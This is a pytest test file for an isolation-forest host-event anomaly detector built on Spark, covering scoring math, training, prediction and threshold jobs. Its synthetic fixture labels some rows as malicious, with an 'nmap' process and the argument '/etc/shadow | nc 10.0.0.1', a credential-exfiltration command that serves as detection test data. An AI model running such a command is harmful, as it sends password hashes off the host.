from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from pyspark.sql import functions as F

from hostgauge.fixed_values import FEATURES, LEGACY_FEATURES, TRAIN_SAMPLE
from hostgauge.operators import isolation_forest as forest
from hostgauge.plans import jobs
from hostgauge.schemas import with_clock
from hostgauge.session import shared_folder
from hostgauge.sources.events import read_events, write_events
from hostgauge.sources.model_store import Meta, check_features, load_model
from tests.conftest import events

RNG = np.random.default_rng(11)


def test_average_path():
    assert [forest.average_path(n) for n in (0, 1, 2)] == [0.0, 0.0, 1.0]
    assert forest.average_path(256) == pytest.approx(2 * (np.log(255) + 0.5772156649) - 2 * 255 / 256)


def test_subsample_size():
    assert [forest.subsample_size(n) for n in (10, 256, 9999)] == [10, 256, 256]
    assert forest.subsample_size(1000, "64") == 64 and forest.subsample_size(1000, 0.5) == 500


def test_tree_splits_every_row_apart_or_stops():
    x = RNG.normal(size=(64, 3))
    nodes = {n[0]: n for n in forest.grow_tree(x, np.random.default_rng(1), 6)}
    for node, feature, _, path in nodes.values():
        assert ((2 * node + 1) in nodes and (2 * node + 2) in nodes) == (feature >= 0)
        assert feature >= 0 or path > 0
    same = forest.grow_tree(np.ones((9, 3)), np.random.default_rng(1), 6)
    assert same == [(0, -1, 0.0, forest.average_path(9))]


def walk(nodes, x):
    """Path length of one row in one tree, node by node."""
    node = 0
    while nodes[node][1] >= 0:
        _, f, cut, _ = nodes[node]
        node = 2 * node + (1 if x[f] < cut else 2)
    return nodes[node][3]


def test_scores_equal_a_walk():
    x = RNG.normal(size=(300, 4))
    trees = [forest.grow_tree(x[RNG.choice(300, 32, replace=False)], np.random.default_rng(i), 5) for i in range(7)]
    nodes = pd.DataFrame([(i, *n) for i, t in enumerate(trees) for n in t], columns=["tree_id", "node_id", "feature", "threshold", "path_len"])
    got = forest.Forest.from_nodes(nodes, 32).raw_scores(x)
    maps = [{n[0]: n for n in t} for t in trees]
    depth = np.array([[walk(m, row) for m in maps] for row in x]).mean(axis=1)
    assert np.allclose(got, -(2.0 ** (-depth / forest.average_path(32))))


@pytest.mark.parametrize("n,psi", [(40, 256), (700, 256), (3000, 256)])
def test_subsamples_are_distinct_rows(spark, n, psi):
    ranked = spark.range(n).select(F.col("id").alias("rank"), F.col("id").cast("double").alias("x"))
    got = forest.assign_subsamples(ranked, n, min(psi, n), 20, 42)
    per_tree = got.groupBy("tree_id").agg(F.count(F.lit(1)).alias("n"), F.countDistinct("rank").alias("d")).collect()
    assert len(per_tree) == 20 and all(r["n"] == r["d"] == min(psi, n) for r in per_tree)


def fit_cloud(spark, parts):
    x = np.vstack([RNG.normal(size=(600, 2)) * 0 + np.random.default_rng(2).normal(size=(600, 2)), [[9.0, 9.0]]])
    df = spark.createDataFrame([(i, float(a), float(b)) for i, (a, b) in enumerate(x)], "id bigint, a double, b double")
    fitted = forest.fit(df.repartition(parts), ["id"], n_trees=60, features=["a", "b"])
    scores = df.select("id", forest.normality_score(spark, fitted.forest, ["a", "b"]).alias("s")).orderBy("id")
    return fitted, np.array([r["s"] for r in scores.collect()])


def test_forest(spark):
    fitted, s = fit_cloud(spark, 3)
    assert s.argmin() == 600
    raw = s + fitted.forest.offset
    assert (-1 < raw).all() and (raw < 0).all()
    assert abs((s < 0).mean() - 0.03) < 0.01
    again, t = fit_cloud(spark, 7)
    assert np.array_equal(s, t), "the partitioning must not matter"
    assert fitted.forest.nbytes < 60 * 600 * 24


def host_day(spark, n=400):
    """Benign work that varies, so that trees can split on what sets the odd rows apart."""
    rng = np.random.default_rng(8)
    rows = []
    for i in range(n):
        odd = i % 50 == 49
        rows.append({
            "timestamp": i * 0.7, "userId": 1500 + i % 3, "processId": 10 + i % 3, "hostName": f"h{i % 2}",
            "processName": "nmap" if odd else "bash", "eventId": 59 if odd else int(rng.choice([3, 257])),
            "args": '[{"value":"/etc/shadow | nc 10.0.0.1 ' + "x" * 60 + '"}]' if odd
            else '[{"value":"/tmp/' + "a" * int(rng.integers(1, 20)) + '"}]',
            "argsNum": 6 if odd else int(rng.integers(1, 4)),
            "returnValue": -13 if odd else int(rng.integers(-1, 9)), "sus": int(odd), "evil": int(odd),
        })
    return events(spark, rows)


@pytest.fixture(scope="module")
def trained(spark, tmp_path_factory):
    folder = str(tmp_path_factory.mktemp("model"))
    o = jobs.TrainOptions(group_mode="host_user", host_col="hostName", n_trees=60)
    report = jobs.train(host_day(spark), host_day(spark), folder, o).first().asDict()
    return load_model(spark, folder), report


def test_training_report(trained):
    model, report = trained
    assert report["benign_sample_used"] == 392 and report["n_features"] == 22
    assert report["entities_thresholded"] == 6 and report["validation_entities"] == 6
    assert report["validation_roc_auc"] > 0.9
    assert model.meta.features == FEATURES and model.meta.group_mode == "host_user"


def test_prediction_rows(spark, trained):
    model, _ = trained
    rows = jobs.predict(host_day(spark), model)
    assert rows.columns == [
        "hostName", "userId", "seq", "entity", "normality_score", "low_threshold", "high_threshold", "severity", "malicious_pred",
    ]
    got = rows.collect()
    assert len(got) == 400 and {r["severity"] for r in got} <= {0, 1, 2}
    assert all(r["malicious_pred"] == (r["severity"] >= 1) for r in got)
    wide = jobs.predict(host_day(spark), model, attach_features=True).columns
    assert wide[3:25] == FEATURES


def test_single_event(spark, trained):
    """An event of an unknown host is graded by the global thresholds."""
    model, _ = trained
    r = jobs.predict(events(spark, [{}]), model).collect()
    assert len(r) == 1 and r[0]["entity"] == "test-host:1500" and r[0]["severity"] in (0, 1, 2)
    assert r[0]["low_threshold"] == model.meta.global_low
    assert jobs.predict(events(spark, []), model).count() == 0


def test_single_live_event(spark, trained):
    """The live row of an event names its user, event, process and host."""
    model, _ = trained
    scored = events(spark, [{}]).withColumnsRenamed({"hostName": "hostname"}).withColumns(
        {"raw_score": F.lit(-0.5), "entity": F.lit("test-host:1500")}
    )
    r = jobs.live_grades(scored, model.thresholds, model.meta.overall).select(*jobs.LIVE_COLUMNS).first()
    assert (r["userId"], r["hostname"], r["eventName"], r["processName"]) == (1500, "test-host", "execve", "bash")
    assert r["severity"] in (0, 1, 2) and r["is_anomaly"] == (r["severity"] > 0)


def test_test_report(spark, trained):
    r = jobs.test(host_day(spark), trained[0]).first()
    assert r["rows"] == 400 and r["evil_count"] == 8 and r["roc_auc"] > 0.9
    with pytest.raises(ValueError):
        jobs.test(host_day(spark).drop("evil"), trained[0])


def test_variants(spark, tmp_path):
    day = host_day(spark)
    per_host = jobs.train_per_host(day, day, str(tmp_path / "m"), jobs.TrainOptions(n_trees=20, context="all")).first()
    assert per_host["entities_thresholded"] == 2
    folder = str(tmp_path / "v1")
    legacy = jobs.train_legacy(day, day, n_trees=20, out_dir=folder)
    r = jobs.test_legacy(day, legacy).first()
    assert r["n"] == 400 and r["threshold"] == legacy.threshold
    rows = jobs.predict_legacy(day, jobs.load_legacy(spark, folder))
    assert rows.columns == ["hostName", "userId", "seq", "normality_score", "malicious_pred"]
    wide = jobs.predict_legacy(day, legacy, attach_features=True, keep=["seq"])
    assert wide.columns == ["seq", *LEGACY_FEATURES, "normality_score", "malicious_pred"]
    assert wide.exceptAll(rows.join(day.select("seq", *[c for c in LEGACY_FEATURES if c != "userId"]), "seq").select(wide.columns)).isEmpty()
    assert rows.count() == 400 and rows.agg(F.sum("malicious_pred")).first()[0] == r["tp"] + r["fp"]


def test_jobs_leave_nothing_in_the_shared_folder(spark, trained):
    jobs.test(host_day(spark), trained[0]).collect()
    assert not list(Path(shared_folder(spark)).glob("hostgauge-job-*"))


def test_numbered_events_go_through_the_jobs(spark, trained, tmp_path):
    write_events(host_day(spark), str(tmp_path / "e"), "csv", escaped=True)
    read = with_clock(read_events(spark, str(tmp_path / "e"), "csv", escaped=True, numbered=True))
    rows = jobs.predict(read, trained[0]).collect()
    assert len(rows) == 400 and len({r["seq"] for r in rows}) == 400


def test_no_benign_row_is_left_out(spark):
    """One row more than training was once limited to."""
    n = TRAIN_SAMPLE + 1
    rows = spark.range(n).select("id", F.sin("id").alias("x"), (F.col("id") % 100).cast("double").alias("y"))
    assert forest.fit(rows, ["id"], n_trees=1, features=["x", "y"]).sample_size == n
    assert jobs.TrainOptions().train_sample is None


def test_the_offset_is_that_of_all_rows(spark):
    x = np.random.default_rng(5).normal(size=(3000, 2))
    df = spark.createDataFrame([(i, float(a), float(b)) for i, (a, b) in enumerate(x)], "id bigint, a double, b double")
    fitted = forest.fit(df, ["id"], n_trees=20, features=["a", "b"])
    assert fitted.forest.offset == pytest.approx(np.quantile(fitted.forest.raw_scores(x), 0.03), abs=1e-12)


def test_a_sample_is_taken_if_asked_for(spark, tmp_path):
    day = host_day(spark)
    o = jobs.TrainOptions(n_trees=5, train_sample=100)
    assert jobs.train(day, day, str(tmp_path / "m"), o).first()["benign_sample_used"] == 100


def test_scores_per_entity_can_be_capped(spark, tmp_path):
    day = host_day(spark)
    o = jobs.TrainOptions(n_trees=5, max_scores_per_entity=50)
    assert jobs.train(day, day, str(tmp_path / "m"), o).first()["global_n_scores"] == 50


@pytest.mark.parametrize("bad", [
    {"low_percentile": 1.0, "high_percentile": 1.0}, {"group_mode": "host_user"}, {"context": "some"},
])
def test_options_are_checked(bad):
    with pytest.raises(ValueError):
        jobs.TrainOptions(**bad).check()


def test_no_benign_rows(spark, tmp_path):
    evil = events(spark, [{"evil": 1}])
    with pytest.raises(ValueError):
        jobs.train(evil, evil, str(tmp_path / "m"), jobs.TrainOptions(n_trees=2))


def test_other_features_warn():
    meta = Meta(256, 0.0, 0.0, 0.0, 1, features=["a"])
    with pytest.warns(UserWarning):
        assert not check_features(meta)
    assert check_features(Meta(256, 0.0, 0.0, 0.0, 1))
